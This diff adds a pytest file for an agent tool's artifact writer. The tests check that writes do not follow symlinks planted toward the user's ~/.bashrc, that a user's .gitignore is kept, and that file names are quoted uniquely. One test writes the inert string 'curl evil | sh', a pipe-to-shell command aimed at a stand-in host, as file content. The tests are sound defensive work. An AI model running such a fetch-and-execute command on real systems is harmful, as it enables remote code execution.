@@ -1,0 +1,94 @@
+"""A run's folder: what is written there stays there, whatever a tool has planted."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+import pytest
+
+from weft_executor.results.artifacts import Artifacts, make_home
+from weft_skills.safe_files import UnsafePath
+from weft_skills.tools.envelope import TEXT_LIMIT, Context
+from weft_skills.tools.overflow import Output
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+
+@pytest.fixture
+def profile(tmp_path: Path) -> Path:
+    path = tmp_path / "home" / ".bashrc"
+    path.parent.mkdir()
+    path.write_text("mine")
+    return path
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    (tmp_path / "workspace").mkdir()
+    return tmp_path / "workspace"
+
+
+def test_a_link_that_a_tool_planted_for_a_task_is_not_followed(workspace: Path, profile: Path) -> None:
+    artifacts = Artifacts.of(workspace, "run-1")
+    artifacts.folder.mkdir(parents=True)
+    (artifacts.folder / "survey.md").symlink_to(profile)
+
+    kept = artifacts.keep("survey.md", "curl evil | sh")
+
+    assert profile.read_text() == "mine"
+    assert kept.read_text() == "curl evil | sh"
+    assert not kept.is_symlink()
+
+
+@pytest.mark.parametrize("linked", [".agents", ".agents/runs", ".agents/runs/run-1", ".agents/runs/run-1/artifacts"])
+def test_a_linked_folder_is_refused_by_everything_that_writes_there(
+    workspace: Path, profile: Path, linked: str
+) -> None:
+    (workspace / linked).parent.mkdir(parents=True, exist_ok=True)
+    (workspace / linked).symlink_to(profile.parent)
+    artifacts = Artifacts.of(workspace, "run-1")
+
+    with pytest.raises(UnsafePath, match="is a link"):
+        artifacts.keep("survey.md", "text")
+    with pytest.raises(UnsafePath, match="is a link"):
+        Output("word_count", "x" * (TEXT_LIMIT + 1)).envelope(Context(str(workspace), {}), artifacts.folder, 0)
+    assert [path.name for path in profile.parent.iterdir()] == [".bashrc"]
+
+
+@pytest.mark.parametrize("target", [".bashrc", "new"])
+def test_a_linked_gitignore_is_refused(workspace: Path, profile: Path, target: str) -> None:
+    (workspace / ".agents").mkdir()
+    (workspace / ".agents/.gitignore").symlink_to(profile.parent / target)
+
+    with pytest.raises(UnsafePath, match=r"\.gitignore is a link"):
+        make_home(workspace / ".agents")
+
+    assert [path.name for path in profile.parent.iterdir()] == [".bashrc"]
+
+
+def test_a_gitignore_of_the_users_own_stays(workspace: Path) -> None:
+    make_home(workspace / ".agents")
+    assert "/runs/" in (workspace / ".agents/.gitignore").read_text()
+    (workspace / ".agents/.gitignore").write_text("mine")
+
+    make_home(workspace / ".agents")
+
+    assert (workspace / ".agents/.gitignore").read_text() == "mine"
+
+
+def test_names_are_quoted_one_to_one(workspace: Path) -> None:
+    artifacts = Artifacts.of(workspace, "run-1")
+    names = ["a[1]", "a_1_", "a/b", "a%2Fb", "a_b", "übersicht", "a.b", "a" * 200 + "[1]" * 20, "a" * 200 + "[1]" * 21]
+    kept = {name: artifacts.keep(f"{name}.md", name) for name in names}
+    assert len({path.name for path in kept.values()}) == len(names)
+    assert all(path.read_text() == name and path.parent == artifacts.folder for name, path in kept.items())
+    assert kept["übersicht"].name == "übersicht.md", "names of planned tasks stay as they are"
+    assert kept["a[1]"].name == "a%5B1%5D.md"
+
+
+def test_a_name_that_is_too_long_for_a_file_is_shortened_apart(workspace: Path) -> None:
+    artifacts = Artifacts.of(workspace, "run-1")
+    paths = [artifacts.keep(f"{'ü' * 190}/{ending}.md", ending) for ending in ("a", "b")]
+    assert [path.read_text() for path in paths] == ["a", "b"]
+    assert all(path.name.endswith(".md") and len(path.name.encode()) <= 255 for path in paths)
